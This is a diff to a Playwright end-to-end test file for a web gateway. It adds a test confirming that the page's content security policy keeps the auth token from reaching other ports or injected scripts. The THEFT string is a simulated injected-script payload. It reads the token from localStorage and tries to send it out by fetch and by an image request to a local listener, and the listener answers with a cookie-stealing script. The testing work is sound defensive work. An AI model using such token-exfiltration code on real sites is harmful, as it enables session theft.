@@ -7,10 +7,12 @@ from pathlib import Path
 import anyio
 import anyio.abc
 import pytest
+from anyio.abc import SocketStream
 from playwright.async_api import Page, expect
 
 from tests.e2e.browser import Chromium, expect_online
 from tests.support.gateway import TOKEN, Rig, running_gateway
+from tests.support.sockets import listening
 from tests.support.wire import connected
 
 pytestmark = pytest.mark.full("Chromium")
@@ -24,6 +26,26 @@ EXPORTED = """
   };
 })
 """
+STORED = "JSON.stringify([{ ...localStorage }, { ...sessionStorage }])"
+THEFT = """
+async (address) => {
+  const token = localStorage["skerry.token"];
+  const script = document.createElement("script");
+  try {
+    script.text = "globalThis.stolen = true";
+    document.head.append(script);
+  } catch {}
+  const asked = fetch(`${address}/?${token}`, { mode: "no-cors" });
+  const sent = await asked.then(() => true, () => false);
+  const image = new Image();
+  const loaded = new Promise((done) => {
+    image.onload = image.onerror = ({ type }) => done(type === "load");
+  });
+  image.src = `${address}/x.png?${token}`;
+  return { inline: Boolean(globalThis.stolen), fetch: sent, image: await loaded };
+}
+"""
+"""What a script would try that got into the page."""
 
 
 @asynccontextmanager
@@ -91,9 +113,41 @@ async def test_from_another_machine_a_browser_waits_until_it_is_approved(
         await expect(page.get_by_role("heading", name="Waiting to be let in")).to_be_visible()
         await approve(rig, page)
         await expect_online(page)
-        await page.evaluate("localStorage.removeItem('skerry.token')")
-        await page.reload()
-        await expect_online(page)  # by its own token
+        for _ in range(2):
+            assert TOKEN not in await page.evaluate(STORED)  # its own is all that it keeps
+            await page.reload()
+            await expect_online(page)
+        await page.evaluate(f"location.hash = '#token={TOKEN}'")
+        await expect_online(page)
+        await page.wait_for_function(f"!({STORED}).includes('{TOKEN}')")
+
+
+async def test_the_token_reaches_no_other_port_and_no_script_but_the_pages_own(
+    browser: Chromium, tmp_path: Path
+) -> None:
+    heard: list[bytes] = []
+
+    async def hear(stream: SocketStream) -> None:
+        async with stream:
+            heard.append(await stream.receive())
+            body = b"<script>localStorage.found = document.cookie</script>"
+            head = b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: %d\r\n\r\n"
+            await stream.send(head % len(body) + body)
+
+    async with running_gateway(tmp_path) as rig, listening(hear) as port:
+        page = await browser.open(f"{rig.http}/#token={TOKEN}")
+        await expect_online(page)
+        assert TOKEN in await page.evaluate(STORED)  # on this machine it stays: see SECURITY.md
+        assert await page.context.cookies() == []
+        tried = await page.evaluate(THEFT, f"http://127.0.0.1:{port}")
+        assert tried == {"inline": False, "fetch": False, "image": False}
+        assert heard == []
+        assert browser.complaints  # the policy, of each
+        browser.complaints.clear()
+        other = await page.context.new_page()  # of the same browser
+        await other.goto(f"http://127.0.0.1:{port}/")
+        assert TOKEN not in await other.evaluate(STORED)
+        assert all(TOKEN.encode() not in one and b"ookie" not in one for one in heard)
 
 
 async def test_a_browser_without_keys_is_told_what_to_do(browser: Chromium, tmp_path: Path) -> None:
